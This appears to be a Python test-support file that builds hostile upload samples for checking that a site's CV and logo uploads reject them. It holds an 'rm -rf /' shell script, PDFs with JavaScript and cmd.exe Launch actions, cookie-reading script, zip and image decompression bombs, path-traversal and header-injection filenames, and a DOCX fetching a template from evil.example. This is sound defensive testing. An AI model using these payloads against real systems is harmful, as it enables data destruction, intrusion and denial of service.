"""A corpus of hostile uploads, built in memory: every one must be refused by the CV and logo uploads.

Each entry is (label, filename, content). Built fresh per call so tests can't share file positions."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from tests.support.pdfs import classic_pdf, object_stream_pdf, plain_objects, plain_pdf

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
FIVE_MB = 5 * 1024 * 1024
MINIMAL_PDF = plain_pdf()


def _zip(entries: dict[str, bytes], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _docx_bomb() -> bytes:
    """A DOCX-shaped zip whose document.xml inflates to ~200 MB from a few hundred KB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(200):
                member.write(chunk)
    return buffer.getvalue()


def _png(width: int, height: int) -> bytes:
    """A valid PNG header claiming the given dimensions (a decompression-bomb image)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    row = b"\0" + b"\0" * 3 * min(width, 64)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(row)) + chunk(b"IEND", b"")


def _docx_with_remote_template() -> bytes:
    rels_ns = "http://schemas.openxmlformats.org/package/2006/relationships"
    template = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    return _zip(
        {
            "[Content_Types].xml": b"<Types>application/vnd.openxmlformats-officedocument.wordprocessingml.document"
            b".main+xml</Types>",
            "word/document.xml": b"<w/>",
            "word/settings.xml": b"<w:settings><w:attachedTemplate r:id='rId1'/></w:settings>",
            "word/_rels/settings.xml.rels": f'<Relationships xmlns="{rels_ns}"><Relationship Id="rId1" '
            f'Type="{template}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'.encode(),
        }
    )


def hostile_cv_files() -> list[tuple[str, str, bytes]]:
    open_js = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 200
    exe = b"MZ\x90\x00" + b"\0" * 60 + b"PE\0\0" + b"\0" * 200
    html = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    return [
        ("ELF executable renamed .pdf", "cv.pdf", elf),
        ("Windows executable renamed .pdf", "cv.pdf", exe),
        ("Windows executable renamed .docx", "cv.docx", exe),
        ("HTML renamed .pdf", "cv.pdf", html),
        ("HTML renamed .docx", "cv.docx", html),
        ("SVG with script renamed .pdf", "cv.pdf", svg),
        ("shell script renamed .pdf", "cv.pdf", b"#!/bin/sh\nrm -rf /\n"),
        ("empty file", "cv.pdf", b""),
        ("EICAR test string as .pdf", "cv.pdf", EICAR),
        ("EICAR after a PDF header", "cv.pdf", b"%PDF-1.4\n" + EICAR + b"\n%%EOF\n"),
        (
            "PDF with JavaScript action",
            "cv.pdf",
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF\n",
        ),
        (
            "PDF with embedded launch action",
            "cv.pdf",
            b"%PDF-1.4\n1 0 obj<</Type/Action/S/Launch/F(cmd.exe)>>endobj\n%%EOF\n",
        ),
        ("PDF/HTML polyglot", "cv.pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n"),
        ("PDF/ZIP polyglot (zip appended)", "cv.pdf", MINIMAL_PDF + _zip({"payload.exe": exe})),
        ("one byte over 5 MB", "cv.pdf", b"%PDF-1.4\n" + b"0" * (FIVE_MB + 1 - len(b"%PDF-1.4\n"))),
        ("zip that is not a DOCX", "cv.docx", _zip({"notes.txt": b"hello"})),
        ("DOCX zip bomb", "cv.docx", _docx_bomb()),
        (
            "DOCX with a path-traversal member",
            "cv.docx",
            _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", "../../evil.sh": b"x"}),
        ),
        (
            "DOCX with macros (docm content type)",
            "cv.docx",
            _zip(
                {
                    "[Content_Types].xml": b"<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>",
                    "word/document.xml": b"<w/>",
                    "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
                }
            ),
        ),
        ("truncated zip renamed .docx", "cv.docx", _zip({"word/document.xml": b"<w/>"})[:40]),
        ("old Word .doc (OLE2) renamed .docx", "cv.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500),
        ("PNG image renamed .pdf", "cv.pdf", _png(10, 10)),
        ("valid PDF with .exe name", "cv.exe", MINIMAL_PDF),
        ("valid PDF with .html name", "cv.html", MINIMAL_PDF),
        ("valid PDF with double extension .pdf.exe", "cv.pdf.exe", MINIMAL_PDF),
        ("RTF renamed .docx", "cv.docx", b"{\\rtf1\\ansi hello}"),
        (
            "PDF with OpenAction JavaScript in an object stream",
            "cv.pdf",
            object_stream_pdf(plain_objects(catalog=open_js)),
        ),
        (
            "PDF with a Launch link in an object stream",
            "cv.pdf",
            object_stream_pdf(
                plain_objects(
                    page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
                    extra=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>"],
                )
            ),
        ),
        (
            "PDF object-stream bomb",
            "cv.pdf",
            object_stream_pdf(plain_objects(), stream_data=b"1 0 " + b" " * (64 * 1024 * 1024)),
        ),
        (
            "PDF whose xref table lies",
            "cv.pdf",
            classic_pdf(plain_objects()).replace(b"0000000015 00000 n", b"0000000099 00000 n"),
        ),
        ("DOCX with a remote template", "cv.docx", _docx_with_remote_template()),
    ]


def hostile_file_names() -> list[tuple[str, str, bytes]]:
    """Valid content under hostile names: accepted or refused, the stored name must be server-generated."""
    return [
        ("path traversal", "../../../../etc/passwd.pdf", MINIMAL_PDF),
        ("windows path traversal", "..\\..\\windows\\system32\\cv.pdf", MINIMAL_PDF),
        ("control characters", "cv\x00\x07\r\n.pdf", MINIMAL_PDF),
        ("header injection", 'cv.pdf"\r\nContent-Type: text/html', MINIMAL_PDF),
        ("very long name", "a" * 300 + ".pdf", MINIMAL_PDF),
    ]


def hostile_logo_files() -> list[tuple[str, str, bytes]]:
    exe = b"MZ\x90\x00" + b"\0" * 300
    return [
        ("executable renamed .png", "logo.png", exe),
        ("HTML renamed .png", "logo.png", b"<html><script>alert(1)</script></html>"),
        ("SVG with script", "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("empty file", "logo.png", b""),
        ("PDF renamed .png", "logo.png", MINIMAL_PDF),
        ("truncated PNG", "logo.png", _png(10, 10)[:30]),
        ("decompression bomb dimensions", "logo.png", _png(60000, 60000)),
        ("over the logo size limit", "logo.png", _png(10, 10) + b"\0" * (1024 * 1024 + 1)),
        ("EICAR renamed .jpg", "logo.jpg", EICAR),
    ]
